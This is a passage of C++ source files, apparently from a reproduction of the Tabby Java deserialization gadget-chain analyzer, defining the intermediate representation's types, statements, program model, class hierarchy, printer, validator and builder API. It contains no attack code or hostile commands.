    for (const std::string& s : seen) {
      if (s == current) {
        already = true;
        break;
      }
    }
    if (already) continue;
    seen.push_back(current);

    if (auto id = find_method(current, name, nargs)) return id;
    const ClassDecl* cls = find_class(current);
    if (cls == nullptr) continue;
    if (!cls->super.empty()) work.push_back(cls->super);
    for (const std::string& iface : cls->interfaces) work.push_back(iface);
  }
  return std::nullopt;
}

std::vector<MethodId> Program::all_methods() const {
  std::vector<MethodId> out;
  out.reserve(method_count());
  for (std::uint32_t ci = 0; ci < classes_.size(); ++ci) {
    for (std::uint32_t mi = 0; mi < classes_[ci].methods.size(); ++mi) {
      out.push_back(MethodId{ci, mi});
    }
  }
  return out;
}

}  // namespace tabby::jir
