// JIR statements: the fifteen Jimple statement forms that Table IV of the
// paper defines transfer rules over, plus the control-flow forms (if/goto/
// label/throw) needed to reproduce the paper's residual false positives
// ("conditional execution statements", §IV-C).
//
// Variables are plain identifiers. Two special families are pre-bound on
// method entry, mirroring Jimple identity statements:
//   "@this"          the receiver (instance methods only)
//   "@p1".."@pN"     parameters, 1-based to match the paper's weight domain
#pragma once

#include <cstdint>
#include <string>
#include <variant>
#include <vector>

#include "jir/type.hpp"

namespace tabby::jir {

/// Receiver variable name and 1-based parameter variable names.
inline constexpr std::string_view kThisVar = "@this";
inline std::string param_var(int index_1_based) { return "@p" + std::to_string(index_1_based); }

/// A reference to a callee method. Resolution (virtual dispatch, alias
/// analysis) is by owner + name + argument count, the same signature notion
/// the paper's MAG construction uses (name, return value, parameter count).
struct MethodRef {
  std::string owner;
  std::string name;
  int nargs = 0;

  bool operator==(const MethodRef&) const = default;
  std::string to_string() const { return owner + "#" + name + "/" + std::to_string(nargs); }
};

enum class InvokeKind : std::uint8_t { Virtual, Static, Special, Interface };

std::string_view to_string(InvokeKind kind);

enum class CmpOp : std::uint8_t { Eq, Ne, Lt, Gt, Le, Ge };

std::string_view to_string(CmpOp op);

/// A compile-time constant: null, integer or string.
struct Const {
  std::variant<std::monostate, std::int64_t, std::string> value;

  bool operator==(const Const&) const = default;
  bool is_null() const { return std::holds_alternative<std::monostate>(value); }

  static Const null() { return {}; }
  static Const of(std::int64_t v) { return Const{v}; }
  static Const of(std::string v) { return Const{std::move(v)}; }
};

// --- Statement forms (Table IV) -------------------------------------------

struct AssignStmt {        // a = b
  std::string target, source;
};
struct ConstStmt {         // a = <const>
  std::string target;
  Const value;
};
struct NewStmt {           // a = new T
  std::string target;
  Type type;
};
struct FieldStoreStmt {    // a.f = b
  std::string base, field, source;
};
struct FieldLoadStmt {     // a = b.f
  std::string target, base, field;
};
struct StaticStoreStmt {   // T.f = b
  std::string owner, field, source;
};
struct StaticLoadStmt {    // a = T.f
  std::string target, owner, field;
};
struct ArrayStoreStmt {    // a[i] = b
  std::string base, index, source;
};
struct ArrayLoadStmt {     // a = b[i]
  std::string target, base, index;
};
struct CastStmt {          // a = (T) b
  std::string target;
  Type type;
  std::string source;
};
struct ReturnStmt {        // return / return a
  std::string value;       // empty for void return
};
struct InvokeStmt {        // [a =] kindinvoke base.<Owner#name/n>(args)
  std::string target;      // empty when the result is discarded
  InvokeKind kind = InvokeKind::Virtual;
  MethodRef callee;
  std::string base;        // empty for static invokes
  std::vector<std::string> args;
};

// --- Control flow ----------------------------------------------------------

struct IfStmt {            // if a <op> b goto L
  std::string lhs;
  CmpOp op = CmpOp::Eq;
  std::string rhs;
  std::string target_label;
};
struct GotoStmt {          // goto L
  std::string target_label;
};
struct LabelStmt {         // label L
  std::string name;
};
struct ThrowStmt {         // throw a
  std::string value;
};
struct NopStmt {};

using Stmt = std::variant<AssignStmt, ConstStmt, NewStmt, FieldStoreStmt, FieldLoadStmt,
                          StaticStoreStmt, StaticLoadStmt, ArrayStoreStmt, ArrayLoadStmt, CastStmt,
                          ReturnStmt, InvokeStmt, IfStmt, GotoStmt, LabelStmt, ThrowStmt, NopStmt>;

/// Render one statement as the textual JIR form the parser accepts.
std::string to_string(const Stmt& stmt);

}  // namespace tabby::jir
