#include "jir/stmt.hpp"

namespace tabby::jir {

std::string_view to_string(InvokeKind kind) {
  switch (kind) {
    case InvokeKind::Virtual: return "virtualinvoke";
    case InvokeKind::Static: return "staticinvoke";
    case InvokeKind::Special: return "specialinvoke";
    case InvokeKind::Interface: return "interfaceinvoke";
  }
  return "virtualinvoke";
}

std::string_view to_string(CmpOp op) {
  switch (op) {
    case CmpOp::Eq: return "==";
    case CmpOp::Ne: return "!=";
    case CmpOp::Lt: return "<";
    case CmpOp::Gt: return ">";
    case CmpOp::Le: return "<=";
    case CmpOp::Ge: return ">=";
  }
  return "==";
}

namespace {

std::string quote(const std::string& s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') out.push_back('\\');
    out.push_back(c);
  }
  out.push_back('"');
  return out;
}

std::string const_to_string(const Const& c) {
  if (c.is_null()) return "null";
  if (const auto* i = std::get_if<std::int64_t>(&c.value)) return std::to_string(*i);
  return quote(std::get<std::string>(c.value));
}

std::string invoke_to_string(const InvokeStmt& s) {
  std::string out;
  if (!s.target.empty()) out += s.target + " = ";
  out += std::string(to_string(s.kind)) + " ";
  if (!s.base.empty()) out += s.base + ".";
  out += "<" + s.callee.to_string() + ">(";
  for (std::size_t i = 0; i < s.args.size(); ++i) {
    if (i != 0) out += ", ";
    out += s.args[i];
  }
  out += ")";
  return out;
}

}  // namespace

std::string to_string(const Stmt& stmt) {
  struct Visitor {
    std::string operator()(const AssignStmt& s) { return s.target + " = " + s.source; }
    std::string operator()(const ConstStmt& s) {
      return s.target + " = " + const_to_string(s.value);
    }
    std::string operator()(const NewStmt& s) {
      return s.target + " = new " + s.type.to_string();
    }
    std::string operator()(const FieldStoreStmt& s) {
      return s.base + "." + s.field + " = " + s.source;
    }
    std::string operator()(const FieldLoadStmt& s) {
      return s.target + " = " + s.base + "." + s.field;
    }
    std::string operator()(const StaticStoreStmt& s) {
      return "staticput " + s.owner + "." + s.field + " = " + s.source;
    }
    std::string operator()(const StaticLoadStmt& s) {
      return s.target + " = staticget " + s.owner + "." + s.field;
    }
    std::string operator()(const ArrayStoreStmt& s) {
      return s.base + "[" + s.index + "] = " + s.source;
    }
    std::string operator()(const ArrayLoadStmt& s) {
      return s.target + " = " + s.base + "[" + s.index + "]";
    }
    std::string operator()(const CastStmt& s) {
      return s.target + " = (" + s.type.to_string() + ") " + s.source;
    }
    std::string operator()(const ReturnStmt& s) {
      return s.value.empty() ? "return" : "return " + s.value;
    }
    std::string operator()(const InvokeStmt& s) { return invoke_to_string(s); }
    std::string operator()(const IfStmt& s) {
      return "if " + s.lhs + " " + std::string(to_string(s.op)) + " " + s.rhs + " goto " +
             s.target_label;
    }
    std::string operator()(const GotoStmt& s) { return "goto " + s.target_label; }
    std::string operator()(const LabelStmt& s) { return "label " + s.name; }
    std::string operator()(const ThrowStmt& s) { return "throw " + s.value; }
    std::string operator()(const NopStmt&) { return "nop"; }
  };
  return std::visit(Visitor{}, stmt);
}

}  // namespace tabby::jir
