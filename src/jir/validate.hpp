// Well-formedness checks for JIR programs: referenced labels exist, invoke
// argument counts match their MethodRef, variables are defined before use
// (flow-insensitively), and class references resolve or are declared phantom.
// Corpus generators run this in tests to keep the synthetic workloads honest.
#pragma once

#include <string>
#include <vector>

#include "jir/model.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::jir {

struct ValidationIssue {
  std::string class_name;
  std::string method_name;  // empty for class-level issues
  std::string message;

  std::string to_string() const {
    std::string where = class_name;
    if (!method_name.empty()) where += "#" + method_name;
    return where + ": " + message;
  }
};

/// Returns all issues found; empty means the program is well-formed.
/// `allow_phantom_classes` tolerates references to classes absent from the
/// Program (Soot's phantom-class mode; real jars always have these).
/// Classes are checked independently, so with an executor the per-class work
/// fans out; issues are concatenated in class order either way, keeping the
/// report order identical.
std::vector<ValidationIssue> validate(const Program& program, bool allow_phantom_classes = true,
                                      util::Executor* executor = nullptr);

}  // namespace tabby::jir
