// The JIR program model: classes, fields, methods and the whole-program
// container. This is the substrate the paper gets from Soot's class loading
// (§III-B1 "Semantic Information Extraction").
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "jir/stmt.hpp"
#include "jir/type.hpp"

namespace tabby::jir {

/// Subset of Java modifiers the analyses care about.
struct Modifiers {
  bool is_public = true;
  bool is_static = false;
  bool is_abstract = false;
  bool is_final = false;
  bool is_native = false;

  bool operator==(const Modifiers&) const = default;
};

struct Field {
  std::string name;
  Type type;
  Modifiers mods;
};

struct Method {
  std::string name;
  std::vector<Type> params;
  Type ret = void_type();
  Modifiers mods;
  std::vector<Stmt> body;  // empty for abstract/native methods

  int nargs() const { return static_cast<int>(params.size()); }
  bool has_body() const { return !mods.is_abstract && !mods.is_native; }
  MethodRef ref_in(const std::string& owner) const { return MethodRef{owner, name, nargs()}; }
};

struct ClassDecl {
  std::string name;
  bool is_interface = false;
  Modifiers mods;
  std::string super;                    // empty only for java.lang.Object and interfaces
  std::vector<std::string> interfaces;  // direct superinterfaces
  std::vector<Field> fields;
  std::vector<Method> methods;

  const Method* find_method(std::string_view method_name, int nargs) const;
  const Field* find_field(std::string_view field_name) const;
};

/// Stable handle for a method inside a Program.
struct MethodId {
  std::uint32_t class_index = 0;
  std::uint32_t method_index = 0;

  bool operator==(const MethodId&) const = default;
};

struct MethodIdHash {
  std::size_t operator()(const MethodId& id) const {
    return (static_cast<std::size_t>(id.class_index) << 20) ^ id.method_index;
  }
};

/// A closed-world collection of classes, as loaded from one or more archives.
/// Lookup structures are rebuilt lazily after mutation via reindex().
class Program {
 public:
  Program() = default;

  /// Appends a class. Duplicate class names are rejected (throws
  /// std::invalid_argument) — archives must be deduplicated by the loader.
  std::uint32_t add_class(ClassDecl cls);

  const std::vector<ClassDecl>& classes() const { return classes_; }
  std::size_t class_count() const { return classes_.size(); }
  std::size_t method_count() const;

  const ClassDecl* find_class(std::string_view name) const;
  std::optional<std::uint32_t> class_index(std::string_view name) const;

  const ClassDecl& class_of(MethodId id) const { return classes_.at(id.class_index); }
  const Method& method(MethodId id) const {
    return classes_.at(id.class_index).methods.at(id.method_index);
  }

  /// Exact lookup in the named class only (no hierarchy walk).
  std::optional<MethodId> find_method(std::string_view owner, std::string_view name,
                                      int nargs) const;

  /// JVM-style resolution: search `owner`, then superclasses, then
  /// superinterfaces (breadth-first). Returns the declaring method.
  std::optional<MethodId> resolve_method(std::string_view owner, std::string_view name,
                                         int nargs) const;

  /// All methods, in deterministic (class, method) order.
  std::vector<MethodId> all_methods() const;

 private:
  std::vector<ClassDecl> classes_;
  std::unordered_map<std::string, std::uint32_t> by_name_;
};

}  // namespace tabby::jir
