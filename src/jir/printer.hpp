// Renders a Program / ClassDecl in the textual JIR surface syntax. The
// output round-trips through jir::parse_program, which the test suite checks
// property-style over generated corpora.
#pragma once

#include <string>

#include "jir/model.hpp"

namespace tabby::jir {

std::string to_text(const Method& method);
std::string to_text(const ClassDecl& cls);
std::string to_text(const Program& program);

}  // namespace tabby::jir
