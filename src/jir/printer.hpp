// Renders a Program / ClassDecl in the textual JIR surface syntax. The
// output round-trips through jir::parse_program, which the test suite checks
// property-style over generated corpora.
#pragma once

#include <cstdint>
#include <string>

#include "jir/model.hpp"

namespace tabby::jir {

std::string to_text(const Method& method);
std::string to_text(const ClassDecl& cls);
std::string to_text(const Program& program);

/// Content fingerprint of a class: FNV-1a64 over its canonical text. A pure
/// function of the declaration, so the incremental cache can attribute a
/// changed archive to the individual classes that changed.
std::uint64_t stable_fingerprint(const ClassDecl& cls);

}  // namespace tabby::jir
