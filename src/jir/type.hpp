// JIR types. The reproduction's IR is deliberately close to Soot's Jimple:
// every analysis in the paper (Table IV transfer rules, Algorithm 1) is
// defined over Jimple statement forms, so the substitution substrate keeps
// the same shape. Types are nominal: a qualified class name plus array depth;
// a closed set of primitive names is recognised.
#pragma once

#include <string>
#include <string_view>

namespace tabby::jir {

/// Well-known class names the analyses treat specially.
inline constexpr std::string_view kObjectClass = "java.lang.Object";
inline constexpr std::string_view kSerializableInterface = "java.io.Serializable";
inline constexpr std::string_view kExternalizableInterface = "java.io.Externalizable";
inline constexpr std::string_view kStringClass = "java.lang.String";

/// A JIR type: primitive ("int", "void", ...) or reference (qualified class
/// name), with `dims` array dimensions stacked on top.
struct Type {
  std::string name;
  int dims = 0;

  bool operator==(const Type&) const = default;

  bool is_void() const { return dims == 0 && name == "void"; }
  bool is_primitive() const;
  bool is_array() const { return dims > 0; }
  bool is_reference() const { return dims > 0 || !is_primitive(); }

  /// Element type of an array type. Precondition: is_array().
  Type element() const { return Type{name, dims - 1}; }

  /// "java.lang.String[][]" style rendering.
  std::string to_string() const;
};

/// Parse "java.lang.String[][]" style text into a Type.
Type parse_type(std::string_view text);

inline Type void_type() { return Type{"void", 0}; }
inline Type int_type() { return Type{"int", 0}; }
inline Type object_type() { return Type{std::string(kObjectClass), 0}; }
inline Type string_type() { return Type{std::string(kStringClass), 0}; }
inline Type ref_type(std::string_view cls) { return Type{std::string(cls), 0}; }

}  // namespace tabby::jir
