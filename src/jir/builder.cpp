#include "jir/builder.hpp"

namespace tabby::jir {

MethodBuilder& MethodBuilder::param(std::string_view type) {
  method().params.push_back(parse_type(type));
  return *this;
}

MethodBuilder& MethodBuilder::returns(std::string_view type) {
  method().ret = parse_type(type);
  return *this;
}

MethodBuilder& MethodBuilder::set_static() {
  method().mods.is_static = true;
  return *this;
}

MethodBuilder& MethodBuilder::set_abstract() {
  method().mods.is_abstract = true;
  return *this;
}

MethodBuilder& MethodBuilder::set_native() {
  method().mods.is_native = true;
  return *this;
}

MethodBuilder& MethodBuilder::stmt(Stmt s) {
  method().body.push_back(std::move(s));
  return *this;
}

MethodBuilder& MethodBuilder::assign(std::string target, std::string source) {
  return stmt(AssignStmt{std::move(target), std::move(source)});
}
MethodBuilder& MethodBuilder::const_null(std::string target) {
  return stmt(ConstStmt{std::move(target), Const::null()});
}
MethodBuilder& MethodBuilder::const_int(std::string target, std::int64_t value) {
  return stmt(ConstStmt{std::move(target), Const::of(value)});
}
MethodBuilder& MethodBuilder::const_str(std::string target, std::string value) {
  return stmt(ConstStmt{std::move(target), Const::of(std::move(value))});
}
MethodBuilder& MethodBuilder::new_object(std::string target, std::string_view type) {
  return stmt(NewStmt{std::move(target), parse_type(type)});
}
MethodBuilder& MethodBuilder::field_store(std::string base, std::string field,
                                          std::string source) {
  return stmt(FieldStoreStmt{std::move(base), std::move(field), std::move(source)});
}
MethodBuilder& MethodBuilder::field_load(std::string target, std::string base,
                                         std::string field) {
  return stmt(FieldLoadStmt{std::move(target), std::move(base), std::move(field)});
}
MethodBuilder& MethodBuilder::static_store(std::string owner, std::string field,
                                           std::string source) {
  return stmt(StaticStoreStmt{std::move(owner), std::move(field), std::move(source)});
}
MethodBuilder& MethodBuilder::static_load(std::string target, std::string owner,
                                          std::string field) {
  return stmt(StaticLoadStmt{std::move(target), std::move(owner), std::move(field)});
}
MethodBuilder& MethodBuilder::array_store(std::string base, std::string index,
                                          std::string source) {
  return stmt(ArrayStoreStmt{std::move(base), std::move(index), std::move(source)});
}
MethodBuilder& MethodBuilder::array_load(std::string target, std::string base,
                                         std::string index) {
  return stmt(ArrayLoadStmt{std::move(target), std::move(base), std::move(index)});
}
MethodBuilder& MethodBuilder::cast(std::string target, std::string_view type,
                                   std::string source) {
  return stmt(CastStmt{std::move(target), parse_type(type), std::move(source)});
}
MethodBuilder& MethodBuilder::ret(std::string value) { return stmt(ReturnStmt{std::move(value)}); }

MethodBuilder& MethodBuilder::invoke_virtual(std::string target, std::string base,
                                             std::string owner, std::string name,
                                             std::vector<std::string> args) {
  int n = static_cast<int>(args.size());
  return stmt(InvokeStmt{std::move(target), InvokeKind::Virtual,
                         MethodRef{std::move(owner), std::move(name), n}, std::move(base),
                         std::move(args)});
}
MethodBuilder& MethodBuilder::invoke_interface(std::string target, std::string base,
                                               std::string owner, std::string name,
                                               std::vector<std::string> args) {
  int n = static_cast<int>(args.size());
  return stmt(InvokeStmt{std::move(target), InvokeKind::Interface,
                         MethodRef{std::move(owner), std::move(name), n}, std::move(base),
                         std::move(args)});
}
MethodBuilder& MethodBuilder::invoke_special(std::string target, std::string base,
                                             std::string owner, std::string name,
                                             std::vector<std::string> args) {
  int n = static_cast<int>(args.size());
  return stmt(InvokeStmt{std::move(target), InvokeKind::Special,
                         MethodRef{std::move(owner), std::move(name), n}, std::move(base),
                         std::move(args)});
}
MethodBuilder& MethodBuilder::invoke_static(std::string target, std::string owner,
                                            std::string name, std::vector<std::string> args) {
  int n = static_cast<int>(args.size());
  return stmt(InvokeStmt{std::move(target), InvokeKind::Static,
                         MethodRef{std::move(owner), std::move(name), n}, std::string{},
                         std::move(args)});
}

MethodBuilder& MethodBuilder::if_cmp(std::string lhs, CmpOp op, std::string rhs,
                                     std::string label) {
  return stmt(IfStmt{std::move(lhs), op, std::move(rhs), std::move(label)});
}
MethodBuilder& MethodBuilder::jump(std::string label) { return stmt(GotoStmt{std::move(label)}); }
MethodBuilder& MethodBuilder::mark(std::string label) { return stmt(LabelStmt{std::move(label)}); }
MethodBuilder& MethodBuilder::throw_value(std::string value) {
  return stmt(ThrowStmt{std::move(value)});
}
MethodBuilder& MethodBuilder::nop() { return stmt(NopStmt{}); }

ClassBuilder& ClassBuilder::extends(std::string_view super) {
  cls_->super = std::string(super);
  return *this;
}

ClassBuilder& ClassBuilder::implements(std::string_view iface) {
  cls_->interfaces.emplace_back(iface);
  return *this;
}

ClassBuilder& ClassBuilder::serializable() { return implements(kSerializableInterface); }

ClassBuilder& ClassBuilder::set_abstract() {
  cls_->mods.is_abstract = true;
  return *this;
}

ClassBuilder& ClassBuilder::field(std::string name, std::string_view type, bool is_static) {
  Field f{std::move(name), parse_type(type), Modifiers{}};
  f.mods.is_static = is_static;
  cls_->fields.push_back(std::move(f));
  return *this;
}

MethodBuilder ClassBuilder::method(std::string name) {
  Method m;
  m.name = std::move(name);
  cls_->methods.push_back(std::move(m));
  return MethodBuilder(cls_, cls_->methods.size() - 1);
}

ClassBuilder ProgramBuilder::add_class(std::string name) {
  ClassDecl cls;
  cls.name = std::move(name);
  if (cls.name != kObjectClass) cls.super = std::string(kObjectClass);
  classes_.push_back(std::move(cls));
  return ClassBuilder(&classes_.back());
}

ClassBuilder ProgramBuilder::add_interface(std::string name) {
  ClassDecl cls;
  cls.name = std::move(name);
  cls.is_interface = true;
  cls.mods.is_abstract = true;
  classes_.push_back(std::move(cls));
  return ClassBuilder(&classes_.back());
}

bool ProgramBuilder::has_class(std::string_view name) const {
  for (const ClassDecl& c : classes_) {
    if (c.name == name) return true;
  }
  return false;
}

ProgramBuilder& ProgramBuilder::with_core_classes() {
  if (!has_class(kObjectClass)) {
    auto object = add_class(std::string(kObjectClass));
    // Overridable roots every Java gadget chain pivots on. Bodies are empty:
    // the interesting behaviour lives in overrides connected via ALIAS edges.
    object.method("toString").returns(std::string(kStringClass)).ret("@this");
    object.method("hashCode").returns("int").const_int("h", 0).ret("h");
    object.method("equals").param(std::string(kObjectClass)).returns("boolean").const_int("r", 0).ret("r");
    object.method("finalize").returns("void").ret();
    object.method("getClass").returns("java.lang.Class").const_null("c").ret("c");
  }
  if (!has_class(kSerializableInterface)) add_interface(std::string(kSerializableInterface));
  if (!has_class(kExternalizableInterface)) {
    add_interface(std::string(kExternalizableInterface))
        .implements(kSerializableInterface);
  }
  if (!has_class(kStringClass)) {
    auto string_cls = add_class(std::string(kStringClass));
    string_cls.serializable();
    string_cls.method("toString").returns(std::string(kStringClass)).ret("@this");
    string_cls.method("hashCode").returns("int").const_int("h", 0).ret("h");
    string_cls.method("length").returns("int").const_int("n", 0).ret("n");
  }
  if (!has_class("java.lang.Class")) add_class("java.lang.Class").serializable();
  if (!has_class("java.lang.Comparable")) {
    auto cmp = add_interface("java.lang.Comparable");
    cmp.method("compareTo").param(std::string(kObjectClass)).returns("int").set_abstract();
  }
  return *this;
}

Program ProgramBuilder::build() {
  Program program;
  for (ClassDecl& cls : classes_) program.add_class(std::move(cls));
  classes_.clear();
  return program;
}

}  // namespace tabby::jir
