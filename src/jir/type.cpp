#include "jir/type.hpp"

#include <array>

namespace tabby::jir {

namespace {
constexpr std::array<std::string_view, 9> kPrimitives = {
    "void", "boolean", "byte", "char", "short", "int", "long", "float", "double"};
}  // namespace

bool Type::is_primitive() const {
  if (dims > 0) return false;
  for (std::string_view p : kPrimitives) {
    if (name == p) return true;
  }
  return false;
}

std::string Type::to_string() const {
  std::string out = name;
  for (int i = 0; i < dims; ++i) out += "[]";
  return out;
}

Type parse_type(std::string_view text) {
  int dims = 0;
  while (text.size() >= 2 && text.substr(text.size() - 2) == "[]") {
    ++dims;
    text.remove_suffix(2);
  }
  return Type{std::string(text), dims};
}

}  // namespace tabby::jir
