// Class-hierarchy queries over a Program: supertype closures, serializability
// (needed to classify deserialization sources), and override relations
// (needed by the Method Alias Graph, Formula 1 of the paper).
#pragma once

#include <string>
#include <string_view>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "jir/model.hpp"

namespace tabby::jir {

/// Immutable hierarchy index built once per Program snapshot.
class Hierarchy {
 public:
  explicit Hierarchy(const Program& program);

  const Program& program() const { return *program_; }

  /// Direct supertypes (superclass first, then direct interfaces). Unknown
  /// class names resolve to an empty list.
  std::vector<std::string> direct_supertypes(std::string_view cls) const;

  /// Transitive supertype closure, excluding `cls` itself. Includes names of
  /// classes absent from the Program (phantom supertypes), as Soot does.
  std::vector<std::string> all_supertypes(std::string_view cls) const;

  /// Direct subtypes present in the Program.
  const std::vector<std::string>& direct_subtypes(std::string_view cls) const;

  /// Transitive subtype closure present in the Program, excluding `cls`.
  std::vector<std::string> all_subtypes(std::string_view cls) const;

  /// True if `sub` == `super` or `super` appears in sub's supertype closure.
  bool is_subtype_of(std::string_view sub, std::string_view super) const;

  /// True if the class transitively implements java.io.Serializable or
  /// java.io.Externalizable.
  bool is_serializable(std::string_view cls) const;

  /// Dispatch a virtual/interface call: the method actually run when invoking
  /// name/nargs on a receiver whose dynamic type is `receiver_class`.
  std::optional<MethodId> dispatch(std::string_view receiver_class, std::string_view name,
                                   int nargs) const;

  /// Concrete (non-abstract, non-interface) classes in the subtype closure of
  /// `cls`, including `cls` itself when concrete. Used by the runtime VM and
  /// by the baselines' call-graph construction.
  std::vector<std::string> concrete_implementations(std::string_view cls) const;

 private:
  const Program* program_;
  std::unordered_map<std::string, std::vector<std::string>> subtypes_;
  std::vector<std::string> empty_;
};

}  // namespace tabby::jir
