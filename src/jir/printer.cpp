#include "jir/printer.hpp"

#include "util/digest.hpp"

namespace tabby::jir {

namespace {

std::string modifier_prefix(const Modifiers& mods) {
  std::string out;
  if (!mods.is_public) out += "private ";
  if (mods.is_static) out += "static ";
  if (mods.is_abstract) out += "abstract ";
  if (mods.is_final) out += "final ";
  if (mods.is_native) out += "native ";
  return out;
}

}  // namespace

std::string to_text(const Method& method) {
  std::string out = "  " + modifier_prefix(method.mods) + "method " + method.name + "(";
  for (std::size_t i = 0; i < method.params.size(); ++i) {
    if (i != 0) out += ", ";
    out += method.params[i].to_string();
  }
  out += ") : " + method.ret.to_string();
  if (!method.has_body()) {
    out += ";\n";
    return out;
  }
  out += " {\n";
  for (const Stmt& s : method.body) out += "    " + to_string(s) + ";\n";
  out += "  }\n";
  return out;
}

std::string to_text(const ClassDecl& cls) {
  std::string out = modifier_prefix(cls.mods);
  // `abstract` is implied for interfaces; drop it from the rendering.
  if (cls.is_interface) {
    out = "";
    if (!cls.mods.is_public) out += "private ";
    out += "interface " + cls.name;
    if (!cls.interfaces.empty()) {
      out += " extends ";
      for (std::size_t i = 0; i < cls.interfaces.size(); ++i) {
        if (i != 0) out += ", ";
        out += cls.interfaces[i];
      }
    }
  } else {
    out += "class " + cls.name;
    if (!cls.super.empty()) out += " extends " + cls.super;
    if (!cls.interfaces.empty()) {
      out += " implements ";
      for (std::size_t i = 0; i < cls.interfaces.size(); ++i) {
        if (i != 0) out += ", ";
        out += cls.interfaces[i];
      }
    }
  }
  out += " {\n";
  for (const Field& f : cls.fields) {
    out += "  " + modifier_prefix(f.mods) + "field " + f.type.to_string() + " " + f.name + ";\n";
  }
  for (const Method& m : cls.methods) out += to_text(m);
  out += "}\n";
  return out;
}

std::uint64_t stable_fingerprint(const ClassDecl& cls) { return util::fnv1a(to_text(cls)); }

std::string to_text(const Program& program) {
  std::string out;
  for (const ClassDecl& cls : program.classes()) {
    out += to_text(cls);
    out += "\n";
  }
  return out;
}

}  // namespace tabby::jir
