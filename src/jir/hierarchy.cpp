#include "jir/hierarchy.hpp"

#include <deque>

namespace tabby::jir {

Hierarchy::Hierarchy(const Program& program) : program_(&program) {
  for (const ClassDecl& cls : program.classes()) {
    if (!cls.super.empty()) subtypes_[cls.super].push_back(cls.name);
    for (const std::string& iface : cls.interfaces) subtypes_[iface].push_back(cls.name);
  }
}

std::vector<std::string> Hierarchy::direct_supertypes(std::string_view cls) const {
  const ClassDecl* decl = program_->find_class(cls);
  if (decl == nullptr) return {};
  std::vector<std::string> out;
  if (!decl->super.empty()) out.push_back(decl->super);
  out.insert(out.end(), decl->interfaces.begin(), decl->interfaces.end());
  return out;
}

std::vector<std::string> Hierarchy::all_supertypes(std::string_view cls) const {
  std::vector<std::string> out;
  std::unordered_set<std::string> seen{std::string(cls)};
  std::deque<std::string> work{std::string(cls)};
  while (!work.empty()) {
    std::string current = std::move(work.front());
    work.pop_front();
    for (std::string& super : direct_supertypes(current)) {
      if (seen.insert(super).second) {
        out.push_back(super);
        work.push_back(std::move(super));
      }
    }
  }
  return out;
}

const std::vector<std::string>& Hierarchy::direct_subtypes(std::string_view cls) const {
  auto it = subtypes_.find(std::string(cls));
  if (it == subtypes_.end()) return empty_;
  return it->second;
}

std::vector<std::string> Hierarchy::all_subtypes(std::string_view cls) const {
  std::vector<std::string> out;
  std::unordered_set<std::string> seen{std::string(cls)};
  std::deque<std::string> work{std::string(cls)};
  while (!work.empty()) {
    std::string current = std::move(work.front());
    work.pop_front();
    for (const std::string& sub : direct_subtypes(current)) {
      if (seen.insert(sub).second) {
        out.push_back(sub);
        work.push_back(sub);
      }
    }
  }
  return out;
}

bool Hierarchy::is_subtype_of(std::string_view sub, std::string_view super) const {
  if (sub == super) return true;
  if (super == kObjectClass) return true;  // every reference type
  for (const std::string& s : all_supertypes(sub)) {
    if (s == super) return true;
  }
  return false;
}

bool Hierarchy::is_serializable(std::string_view cls) const {
  if (cls == kSerializableInterface || cls == kExternalizableInterface) return true;
  for (const std::string& s : all_supertypes(cls)) {
    if (s == kSerializableInterface || s == kExternalizableInterface) return true;
  }
  return false;
}

std::optional<MethodId> Hierarchy::dispatch(std::string_view receiver_class, std::string_view name,
                                            int nargs) const {
  // Walk the superclass chain first (instance method override semantics),
  // then fall back to full resolution including interfaces (default-method
  // style fallback keeps synthetic corpora simple).
  std::string current{receiver_class};
  while (!current.empty()) {
    if (auto id = program_->find_method(current, name, nargs)) {
      if (program_->method(*id).has_body() || program_->class_of(*id).is_interface) return id;
    }
    const ClassDecl* decl = program_->find_class(current);
    if (decl == nullptr) break;
    current = decl->super;
  }
  return program_->resolve_method(receiver_class, name, nargs);
}

std::vector<std::string> Hierarchy::concrete_implementations(std::string_view cls) const {
  std::vector<std::string> out;
  auto consider = [&](std::string_view name) {
    const ClassDecl* decl = program_->find_class(name);
    if (decl != nullptr && !decl->is_interface && !decl->mods.is_abstract) {
      out.emplace_back(name);
    }
  };
  consider(cls);
  for (const std::string& sub : all_subtypes(cls)) consider(sub);
  return out;
}

}  // namespace tabby::jir
