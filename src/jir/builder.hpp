// Fluent construction API for JIR programs. The synthetic corpus (models of
// commons-collections, URLDNS, the Spring scene, ...) is written against this
// builder, so it favours terseness: most call sites are one line per Jimple
// statement.
#pragma once

#include <deque>
#include <string>
#include <vector>

#include "jir/model.hpp"

namespace tabby::jir {

class ClassBuilder;

class MethodBuilder {
 public:
  MethodBuilder(ClassDecl* cls, std::size_t index) : cls_(cls), index_(index) {}

  MethodBuilder& param(std::string_view type);
  MethodBuilder& returns(std::string_view type);
  MethodBuilder& set_static();
  MethodBuilder& set_abstract();
  MethodBuilder& set_native();

  // Statement emission, one helper per Table IV form.
  MethodBuilder& assign(std::string target, std::string source);
  MethodBuilder& const_null(std::string target);
  MethodBuilder& const_int(std::string target, std::int64_t value);
  MethodBuilder& const_str(std::string target, std::string value);
  MethodBuilder& new_object(std::string target, std::string_view type);
  MethodBuilder& field_store(std::string base, std::string field, std::string source);
  MethodBuilder& field_load(std::string target, std::string base, std::string field);
  MethodBuilder& static_store(std::string owner, std::string field, std::string source);
  MethodBuilder& static_load(std::string target, std::string owner, std::string field);
  MethodBuilder& array_store(std::string base, std::string index, std::string source);
  MethodBuilder& array_load(std::string target, std::string base, std::string index);
  MethodBuilder& cast(std::string target, std::string_view type, std::string source);
  MethodBuilder& ret(std::string value = "");

  MethodBuilder& invoke_virtual(std::string target, std::string base, std::string owner,
                                std::string name, std::vector<std::string> args);
  MethodBuilder& invoke_interface(std::string target, std::string base, std::string owner,
                                  std::string name, std::vector<std::string> args);
  MethodBuilder& invoke_special(std::string target, std::string base, std::string owner,
                                std::string name, std::vector<std::string> args);
  MethodBuilder& invoke_static(std::string target, std::string owner, std::string name,
                               std::vector<std::string> args);

  MethodBuilder& if_cmp(std::string lhs, CmpOp op, std::string rhs, std::string label);
  MethodBuilder& jump(std::string label);
  MethodBuilder& mark(std::string label);
  MethodBuilder& throw_value(std::string value);
  MethodBuilder& nop();

  MethodBuilder& stmt(Stmt s);

  Method& method() { return cls_->methods[index_]; }

 private:
  ClassDecl* cls_;
  std::size_t index_;
};

class ClassBuilder {
 public:
